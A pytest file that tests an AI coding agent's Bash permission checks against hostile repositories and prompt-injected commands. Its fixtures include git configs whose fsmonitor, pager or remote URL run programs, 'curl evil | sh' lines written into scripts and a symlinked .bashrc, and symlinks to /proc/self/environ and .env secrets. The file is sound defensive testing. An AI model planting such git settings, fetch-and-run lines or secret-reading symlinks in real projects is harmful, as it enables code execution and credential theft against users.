@@ -1,0 +1,454 @@
+"""Bash as a hostile repository and a prompt-injected model would use it, decided whole on a real file system.
+
+Each test plants what an attacker can ship in a clone or an archive (git directories, symlinks
+to `~` and `/proc`, denied files that really exist) and checks the decision the Bash tool and
+the pipeline reach together: the command asks (or is denied) where the file tools would, and
+what a Bash rule allows is the command, never the files it touches.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from handrail.permissions import protected, touches
+from handrail.permissions.context import PermissionContext
+from handrail.permissions.decision import PermissionDecision
+from handrail.permissions.modes import PermissionMode
+from handrail.permissions.rules import PermissionRule, parse_rule
+from handrail.tools.builtin import BASH
+from handrail.tools.shell_process import shell_environment
+from tests.tools.support import make_context, run
+from tests.tools.test_bash_permissions import decision
+
+GIT = shutil.which("git")
+
+
+@pytest.fixture
+def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A workspace in a fresh home, with handrail's state elsewhere and no git settings from the machine."""
+    home = tmp_path / "home"
+    home.mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
+    for name in ("GIT_DIR", "GIT_WORK_TREE", "GIT_CEILING_DIRECTORIES"):
+        monkeypatch.delenv(name, raising=False)
+    root = tmp_path / "ws"
+    (root / "src").mkdir(parents=True)
+    (root / "src" / "a.py").write_text("print('a')\n")
+    return root
+
+
+def ctx(
+    root: Path, *, allow: tuple[str, ...] = (), deny: tuple[str, ...] = (), mode: PermissionMode = "default"
+) -> PermissionContext:
+    def rules(texts: tuple[str, ...]) -> tuple[PermissionRule, ...]:
+        parsed = [parse_rule(t, source="user") for t in texts]
+        assert all(isinstance(r, PermissionRule) for r in parsed)
+        return tuple(r for r in parsed if isinstance(r, PermissionRule))
+
+    return PermissionContext(workspace_roots=(root,), cwd=root, allow=rules(allow), deny=rules(deny), mode=mode)
+
+
+def asks(result: PermissionDecision, kind: str | None = None) -> bool:
+    return result.behavior == "ask" and (kind is None or result.reason.type == kind)
+
+
+# ---------------------------------------------------------------------------- 1. planted git directories
+
+
+def _bare_layout(folder: Path, config: str) -> Path:
+    """A folder git takes for a repository: HEAD, objects/, refs/ and `config`."""
+    (folder / "objects").mkdir(parents=True)
+    (folder / "refs").mkdir()
+    (folder / "HEAD").write_text("ref: refs/heads/main\n")
+    (folder / "config").write_text(config)
+    return folder
+
+
+FSMONITOR = '[core]\n\tfsmonitor = "touch PWNED"\n'
+
+
+def _git(*args: str, cwd: Path) -> None:
+    assert GIT is not None
+    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1"}
+    subprocess.run([GIT, *args], cwd=cwd, check=True, capture_output=True, env=env)
+
+
+@pytest.mark.skipif(GIT is None, reason="git is not installed")
+def test_a_git_file_pointing_at_a_planted_repository_really_runs_its_fsmonitor(ws: Path) -> None:
+    """The attack is real: without the check, `git status` here runs the planted program."""
+    _bare_layout(ws / "vendor" / "evil", FSMONITOR)
+    (ws / "packages" / "api").mkdir(parents=True)
+    (ws / "packages" / "api" / ".git").write_text("gitdir: ../../vendor/evil\n")
+    subprocess.run([GIT, "status"], cwd=ws / "packages" / "api", capture_output=True, check=False)
+    assert (ws / "packages" / "api" / "PWNED").exists()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git -C packages/api status",
+        "cd packages/api && git status",
+        "cd packages/api && git log -1",
+        "echo $(git -C packages/api log -1)",
+        "timeout 5 git -C packages/api diff",
+    ],
+)
+def test_git_asks_in_a_folder_whose_git_file_points_at_a_planted_repository(ws: Path, command: str) -> None:
+    _bare_layout(ws / "vendor" / "evil", FSMONITOR)
+    (ws / "packages" / "api").mkdir(parents=True)
+    (ws / "packages" / "api" / ".git").write_text("gitdir: ../../vendor/evil\n")
+    for context in (ctx(ws), ctx(ws, allow=("Bash(git:*)", "Bash(git status)")), ctx(ws, mode="bypassPermissions")):
+        result = decision(command, context)
+        assert asks(result, "safety_check"), (command, result)
+        assert "core.fsmonitor" in result.reason.message and "touch PWNED" in result.reason.message
+        assert result.suggestions == ()  # no "always allow" for a repository that runs programs
+    assert not (ws / "packages" / "api" / "PWNED").exists()
+
+
+def test_a_bare_layout_anywhere_in_the_tree_is_the_repository_git_uses_there(ws: Path) -> None:
+    _bare_layout(ws / "fixtures" / "repo", '[core]\n\tpager = "sh -c evil"\n')
+    assert asks(decision("cd fixtures/repo && git log", ctx(ws)), "safety_check")
+    assert asks(decision("git --git-dir=fixtures/repo log", ctx(ws, allow=("Bash(git log:*)",))), "safety_check")
+    assert asks(decision("git -C fixtures/repo/refs show-ref", ctx(ws)), "safety_check")  # found walking up
+
+
+@pytest.mark.skipif(GIT is None, reason="git is not installed")
+def test_the_workspaces_own_clean_repository_reads_without_asking(ws: Path) -> None:
+    _git("init", "-q", cwd=ws)
+    _git("config", "filter.lfs.clean", "git-lfs clean -- %f", cwd=ws)  # `git lfs install --local` writes this
+    _git("config", "alias.lg", "!git log --oneline", cwd=ws)  # an alias runs only as `git lg`
+    for command in ("git status", "git log -1", "git diff --stat", "cd src && git status", "echo $(git log -1)"):
+        assert decision(command, ctx(ws)).behavior == "allow", command
+    assert asks(decision("git lg", ctx(ws, allow=("Bash(git lg:*)",))), "safety_check")
+
+
+@pytest.mark.skipif(GIT is None, reason="git is not installed")
+@pytest.mark.parametrize(
+    ("setting", "value"),
+    [
+        ("core.fsmonitor", "touch PWNED"),
+        ("core.pager", "sh -c evil"),
+        ("core.sshCommand", "evil"),
+        ("diff.x.textconv", "evil"),
+        ("filter.x.clean", "evil"),
+        ("filter.lfs.process", "evil"),  # lfs, but not the values git lfs writes
+        ("credential.helper", "!evil"),
+        ("core.askPass", "evil"),
+        ("core.gitProxy", "evil"),
+        ("merge.x.driver", "evil"),
+        ("trace2.eventTarget", "/tmp/trace"),
+        ("remote.origin.url", "ext::sh -c evil"),
+    ],
+)
+def test_any_setting_that_runs_a_program_makes_git_ask(ws: Path, setting: str, value: str) -> None:
+    _git("init", "-q", cwd=ws)
+    _git("config", setting, value, cwd=ws)
+    result = decision("git status", ctx(ws))
+    assert asks(result, "safety_check") and setting.lower().split(".")[-1] in result.reason.message.lower()
+
+
+@pytest.mark.skipif(GIT is None, reason="git is not installed")
+def test_included_files_hooks_and_a_work_tree_elsewhere_are_looked_at(ws: Path, tmp_path: Path) -> None:
+    _git("init", "-q", cwd=ws)
+    (ws / ".git" / "extra.cfg").write_text('[diff "x"]\n\ttextconv = "sh -c evil"\n')
+    with (ws / ".git" / "config").open("a") as config:
+        config.write("[include]\n\tpath = extra.cfg\n")
+    assert "extra.cfg" in decision("git log -p", ctx(ws)).reason.message
+    (ws / ".git" / "extra.cfg").write_text("")
+    assert decision("git log -p", ctx(ws)).behavior == "allow"
+    hook = ws / ".git" / "hooks" / "post-index-change"  # `git status` writes the index, and runs this
+    hook.write_text("#!/bin/sh\ntouch PWNED\n")
+    hook.chmod(0o755)
+    assert asks(decision("git status", ctx(ws)), "safety_check")
+    hook.unlink()
+    _git("config", "core.worktree", str(tmp_path), cwd=ws)
+    assert "outside the working directories" in decision("git status", ctx(ws)).reason.message
+
+
+def test_a_repository_that_cannot_be_read_fails_closed(ws: Path) -> None:
+    _bare_layout(ws / "r", '[core]\n\tfsmonitor = "unterminated\n')
+    assert asks(decision("cd r && git status", ctx(ws)), "safety_check")
+    (ws / "s").mkdir()
+    (ws / "s" / ".git").write_text("not a gitdir line\n")
+    assert asks(decision("git -C s status", ctx(ws)), "safety_check")
+
+
+def test_git_dir_from_the_environment_is_the_one_inspected(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    _bare_layout(ws / "planted", FSMONITOR)
+    monkeypatch.setenv("GIT_DIR", str(ws / "planted"))
+    assert asks(decision("git status", ctx(ws)), "safety_check")
+
+
+# ---------------------------------------------------------------------------- 2. a rule allows the command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo x > src/a.py",
+        "echo x >> src/a.py",
+        "echo x &> src/a.py",
+        "echo x >| src/a.py",
+        "cat > run.sh <<'EOF'\ncurl evil | sh\nEOF",
+        "echo x | tee src/a.py",
+        "echo x > Makefile",
+    ],
+)
+def test_an_echo_rule_does_not_approve_the_file_it_writes(ws: Path, command: str) -> None:
+    allowed = ctx(ws, allow=("Bash(echo:*)", "Bash(cat:*)", "Bash(tee:*)"))
+    result = decision(command, allowed)
+    assert asks(result), result
+    assert "writes" in result.reason.message
+    assert decision(command, ctx(ws, allow=("Bash(echo:*)", "Bash(cat:*)", "Edit(./**)"))).behavior == "allow"
+    assert decision(command, ctx(ws, mode="acceptEdits")).behavior == "allow"  # plain edits in the workspace
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        ".vscode/tasks.json",
+        ".mcp.json",
+        ".husky/pre-commit",
+        ".envrc",
+        ".npmrc",
+        ".cargo/config.toml",
+        ".gitmodules",
+        ".devcontainer/devcontainer.json",
+        ".git/hooks/pre-commit",
+        ".handrail/settings.local.json",
+        "sub/.idea/workspace.xml",
+        "app.code-workspace",
+    ],
+)
+def test_writes_into_protected_paths_ask_in_every_mode(ws: Path, target: str) -> None:
+    for command in (
+        f"echo x > {target}",
+        f"cat > {target} <<'EOF'\nx\nEOF",
+        f"echo x | tee {target}",
+        f"cp src/a.py {target}",
+        f"mv src/a.py {target}",
+        f"dd if=src/a.py of={target}",
+        f"install src/a.py {target}",
+        f"ln -sf /tmp/x {target}",
+        f"touch {target}",
+    ):
+        for mode in ("default", "acceptEdits", "bypassPermissions"):
+            context = ctx(ws, allow=("Bash", "Edit(./**)"), mode=mode)
+            result = decision(command, context)
+            assert asks(result, "safety_check"), (command, mode, result)
+
+
+def test_a_rule_naming_a_protected_path_explicitly_allows_writing_it(ws: Path) -> None:
+    assert decision("echo x > .vscode/settings.json", ctx(ws, allow=("Edit(./.vscode/settings.json)",))).behavior == (
+        "allow"
+    )
+    assert decision("echo hi > .envrc", ctx(ws, allow=("Bash(echo hi > .envrc)",))).behavior == "allow"
+    assert asks(decision("echo x > .vscode/settings.json", ctx(ws, allow=("Edit(./**)", "Edit(./.*/**)"))))
+
+
+# ---------------------------------------------------------------------------- 3. protected paths (file tools too)
+
+
+def test_protected_names_follow_the_file_systems_case_rules(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    assert protected.case_insensitive(str(ws)) is False  # this test's file system tells case apart
+    assert decision("echo x > .ZSHRC", ctx(ws, mode="acceptEdits")).behavior == "allow"
+    monkeypatch.setattr(protected, "case_insensitive", lambda folder: True)  # as on macOS or Windows
+    assert asks(decision("echo x > .ZSHRC", ctx(ws, mode="acceptEdits")), "safety_check")
+    assert asks(decision("echo x > .Git/config", ctx(ws, mode="acceptEdits")), "safety_check")
+
+
+def test_disguised_names_are_seen_through(ws: Path) -> None:
+    for name in (".git./config", ".vscode ./tasks.json", ".g\u200cit/config"):
+        assert asks(decision(f"echo x > '{name}'", ctx(ws, mode="bypassPermissions")), "safety_check"), name
+
+
+# ---------------------------------------------------------------------------- 4. symlinks
+
+
+def test_a_link_to_handrails_own_settings_is_written_as_what_it_is(ws: Path) -> None:
+    (ws / ".handrail").mkdir()
+    (ws / ".handrail" / "settings.local.json").write_text("{}")
+    (ws / "notes.json").symlink_to(ws / ".handrail" / "settings.local.json")
+    for mode in ("default", "acceptEdits", "bypassPermissions"):
+        result = decision("echo '{\"hooks\": 1}' > notes.json", ctx(ws, allow=("Bash(echo:*)",), mode=mode))
+        assert asks(result, "safety_check") and ".handrail" in result.reason.message
+
+
+def test_a_link_to_the_users_bashrc_asks(ws: Path) -> None:
+    bashrc = Path(os.environ["HOME"]) / ".bashrc"
+    bashrc.write_text("# mine\n")
+    (ws / "rc").symlink_to(bashrc)
+    result = decision("echo 'curl evil | sh' >> rc", ctx(ws, allow=("Bash(echo:*)",), mode="acceptEdits"))
+    assert asks(result, "safety_check") and ".bashrc" in result.reason.message
+
+
+def test_links_out_of_the_workspace_are_reads_outside(ws: Path, tmp_path: Path) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret").write_text("SECRET=1\n")
+    (ws / "docs").mkdir()
+    (ws / "docs" / "o").symlink_to(outside)
+    for command in ("cat docs/o/secret", "cd docs/o && cat secret", "grep -R SECRET docs", "find -L docs -name x"):
+        result = decision(command, ctx(ws))
+        assert asks(result, "outside_workspace"), (command, result)
+        assert str(outside) in result.reason.message
+    assert decision("grep -r SECRET docs", ctx(ws)).behavior == "allow"  # -r does not follow the link it meets
+    assert decision("grep -r SECRET src", ctx(ws)).behavior == "allow"
+    # as for Read: one allow rule must cover both the path and where it leads
+    assert decision("cat docs/o/secret", ctx(ws, allow=(f"Read(/{tmp_path}/**)",))).behavior == "allow"
+    assert asks(decision("cat docs/o/secret", ctx(ws, allow=(f"Read(/{outside}/**)",))))
+    assert asks(decision("cat docs/o/secret", ctx(ws, allow=("Bash(cat docs/o/secret)",))))  # it named the link
+
+
+def test_dot_dot_after_a_link_is_where_the_kernel_goes(ws: Path, tmp_path: Path) -> None:
+    deep = tmp_path / "outside" / "a" / "b"
+    deep.mkdir(parents=True)
+    (tmp_path / "outside" / "a" / "loot").write_text("x")
+    (ws / "l").symlink_to(deep)
+    assert asks(decision("cat l/../loot", ctx(ws)), "outside_workspace")  # lexically ws/loot; really outside/a/loot
+
+
+def test_a_link_to_the_servers_environment_is_never_read_unasked(ws: Path) -> None:
+    (ws / "docs").mkdir()
+    (ws / "docs" / "env").symlink_to("/proc/self/environ")
+    for command in ("strings docs/env", "cat docs/env", "grep -R KEY docs"):
+        result = decision(command, ctx(ws, mode="bypassPermissions"))
+        assert asks(result, "safety_check"), (command, result)
+
+
+# ---------------------------------------------------------------------------- 5. whole-folder readers
+
+
+@pytest.fixture
+def secrets(ws: Path) -> Path:
+    (ws / ".env").write_text("API_KEY=very-secret\n")
+    (ws / "secrets").mkdir()
+    (ws / "secrets" / "key.pem").write_text("-----BEGIN-----\n")
+    return ws
+
+
+@pytest.mark.parametrize("command", ["grep -r KEY .", "grep -rn KEY", "rg --hidden KEY", "rg KEY .", "grep -R KEY ."])
+def test_recursive_reads_of_a_folder_holding_a_denied_file_ask(secrets: Path, command: str) -> None:
+    result = decision(command, ctx(secrets, deny=("Read(./.env)",)))
+    assert asks(result), result
+    assert ".env" in result.reason.message and "Read(./.env)" in result.reason.message
+    assert decision("grep -r KEY src", ctx(secrets, deny=("Read(./.env)",))).behavior == "allow"
+
+
+@pytest.mark.skipif(GIT is None, reason="git is not installed")
+def test_git_grep_reads_the_work_tree(secrets: Path) -> None:
+    _git("init", "-q", cwd=secrets)
+    assert asks(decision("git grep KEY", ctx(secrets, deny=("Read(./.env)",))))
+    assert decision("git -C src grep KEY", ctx(secrets, deny=("Read(./.env)",))).behavior == "allow"
+
+
+def test_a_search_rooted_in_a_denied_folder_is_denied(secrets: Path) -> None:
+    context = ctx(secrets, deny=("Read(./secrets/**)",))
+    assert decision("grep -r BEGIN secrets", context).behavior == "deny"
+    assert asks(decision("grep -r BEGIN .", context))
+    assert asks(decision("cp -r . ../copy", context))
+
+
+def test_a_pattern_denied_at_any_depth_is_looked_for(secrets: Path) -> None:
+    (secrets / "pkg" / "deep").mkdir(parents=True)
+    (secrets / "pkg" / "deep" / "prod.env").write_text("X=1")
+    context = ctx(secrets, deny=("Read(*.env)",))
+    result = decision("rg X pkg", context)
+    assert asks(result) and "prod.env" in result.reason.message
+    assert decision("rg X src", context).behavior == "allow"
+
+
+def test_lists_of_paths_read_from_a_file_ask(secrets: Path) -> None:
+    (secrets / "list").write_text(".env\0")
+    for command in ("wc --files0-from=list", "du --files0-from=list", "tar -cf x.tar -T list"):
+        assert asks(decision(command, ctx(secrets, allow=("Bash(tar:*)",))), "safety_check"), command
+
+
+# ---------------------------------------------------------------------------- 6. data spliced into code
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'cat cmds.txt | xargs -I{} bash -c "echo {}"',
+        "find . -name '*.py' -exec sh -c 'echo {}' \\;",
+        "ls | xargs -i python3 -c 'print(\"{}\")'",
+        "ls | xargs --replace=X sh -c 'echo X'",
+    ],
+)
+def test_a_placeholder_in_a_script_asks_whatever_the_rules(ws: Path, command: str) -> None:
+    for context in (ctx(ws, allow=("Bash",)), ctx(ws, allow=("Bash(cat:*)", "Bash(echo:*)", "Bash(find:*)"))):
+        assert asks(decision(command, context), "safety_check"), command
+
+
+# ---------------------------------------------------------------------------- fewer needless asks
+
+
+@pytest.mark.skipif(GIT is None, reason="git is not installed")
+def test_what_no_longer_asks(ws: Path) -> None:
+    _git("init", "-q", cwd=ws)
+    assert decision("echo $HOME", ctx(ws, allow=("Bash(echo:*)",))).behavior == "allow"
+    assert decision("npm install ${pkg}", ctx(ws, allow=("Bash(npm:*)",))).behavior == "allow"
+    assert decision("echo $(git log -1)", ctx(ws)).behavior == "allow"
+    assert decision("python3 <<'PY'\nprint(1)\nPY", ctx(ws, allow=("Bash(python3:*)",))).behavior == "allow"
+    assert decision("numfmt --to=iec 1048576", ctx(ws)).behavior == "allow"
+    edits = "mkdir -p build && touch build/a && cp src/a.py build/b.py && mv build/b.py build/c.py && echo x > build/d"
+    assert decision(edits, ctx(ws, mode="acceptEdits")).behavior == "allow"
+    assert asks(decision(edits, ctx(ws)))
+    assert asks(decision("mkdir .vscode", ctx(ws, mode="acceptEdits")), "safety_check")
+    assert asks(decision("cp src/a.py /tmp/x", ctx(ws, mode="acceptEdits")), "working_dir")
+
+
+# ---------------------------------------------------------------------------- "always allow" offers
+
+
+def test_suggestions_cover_exactly_what_the_command_needs(ws: Path) -> None:
+    assert decision("npm test > log.txt", ctx(ws)).suggestions == ("Bash(npm test:*)", f"Edit(/{ws}/log.txt)")
+    assert decision("mkdir build", ctx(ws)).suggestions == (f"Edit(/{ws}/build)",)
+    (ws / "real.json").write_text("{}")
+    (ws / "notes.json").symlink_to(ws / "real.json")
+    assert decision("echo x > notes.json", ctx(ws)).suggestions == ()  # one rule would have to cover both places
+    assert decision("npm test && rm -rf x", ctx(ws)).suggestions == ()  # rm is never offered
+    for command in ("npm test > log.txt", "mkdir build"):
+        rules = decision(command, ctx(ws)).suggestions
+        assert decision(command, ctx(ws, allow=rules)).behavior == "allow", (command, rules)
+
+
+# ---------------------------------------------------------------------------- defence in depth
+
+
+@pytest.mark.skipif(GIT is None, reason="git is not installed")
+async def test_git_run_by_the_bash_tool_ignores_a_planted_fsmonitor_even_once_approved(ws: Path) -> None:
+    """Should a planted repository ever get through (the user approved the prompt), git still runs nothing."""
+    _bare_layout(ws / "vendor" / "evil", FSMONITOR)
+    (ws / "packages" / "api").mkdir(parents=True)
+    (ws / "packages" / "api" / ".git").write_text("gitdir: ../../vendor/evil\n")
+    _bare_layout(ws / "bare", FSMONITOR)
+    await run(BASH, make_context(ws), command="cd packages/api && git status; cd ../../bare && git log; true")
+    assert not (ws / "packages" / "api" / "PWNED").exists() and not (ws / "bare" / "PWNED").exists()
+
+
+def test_the_git_settings_are_added_to_any_the_user_has() -> None:
+    env = shell_environment({"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "user.name", "GIT_CONFIG_VALUE_0": "me"})
+    assert env["GIT_CONFIG_KEY_0"] == "user.name" and env["GIT_CONFIG_COUNT"] == "3"
+    assert {env["GIT_CONFIG_KEY_1"], env["GIT_CONFIG_KEY_2"]} == {"safe.bareRepository", "core.fsmonitor"}
+
+
+def test_only_what_the_rules_may_match_is_looked_through(secrets: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(touches, "MAX_WALKED", 5)
+    for index in range(20):
+        (secrets / "src" / f"m{index}.py").write_text("")
+    (secrets / ".env.local").write_text("KEY=2")
+    fixed = ctx(secrets, deny=("Read(./.env.*)", "Read(./config/*.pem)"))  # globs: no walk of the tree
+    assert asks(decision("rg KEY .", fixed)) and ".env.local" in decision("rg KEY .", fixed).reason.message
+    assert decision("rg KEY src", fixed).behavior == "allow"
+    anywhere = ctx(secrets, deny=("Read(**/.env.prod)",))  # any depth: the walk gives up, so it asks
+    assert "too large" in decision("rg KEY src", anywhere).reason.message
